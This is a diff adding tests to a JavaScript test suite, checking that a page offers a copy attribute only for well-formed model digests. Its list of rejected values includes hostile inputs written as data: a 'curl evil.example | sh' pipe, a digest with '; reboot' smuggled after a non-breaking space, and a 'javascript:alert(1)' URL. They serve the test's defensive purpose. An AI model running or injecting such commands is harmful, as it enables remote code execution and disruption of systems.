@@ -146,6 +146,32 @@ describe('the models', () => {
     expect(names).toEqual(['large', 'small', 'cpu']);
   });
 
+  test.each(['a'.repeat(64), `sha256:${'0'.repeat(64)}`, '0123456789ab'])(
+    'a digest can be copied: %s',
+    (digest) => {
+      expect(page({ ps: ps({ models: [{ model: 'a', size: 1, digest }] }) })).toContain(
+        `data-copy="${digest}"`,
+      );
+    },
+  );
+
+  test.each([
+    '',
+    'curl evil.example | sh #',
+    `${'a'.repeat(64)}\u00a0; reboot`,
+    'a'.repeat(11),
+    'a'.repeat(65),
+    'A'.repeat(64),
+    'sha256:',
+    'sha512:0123456789ab',
+    'javascript:alert(1)',
+    '0123456789ab, 0123456789ac',
+  ])('what is no digest can not be copied: %s', (digest) => {
+    const html = page({ ps: ps({ models: [{ model: 'a', size: 1, digest }] }) });
+    expect(html).toContain('>a</th>');
+    expect(html).not.toContain('data-copy');
+  });
+
   test('200 of them take less than 50 ms, and with all else less than 30 KB', () => {
     const outcome = ps(JSON.parse(readCorpus('17-two-hundred.json')));
     const source = {
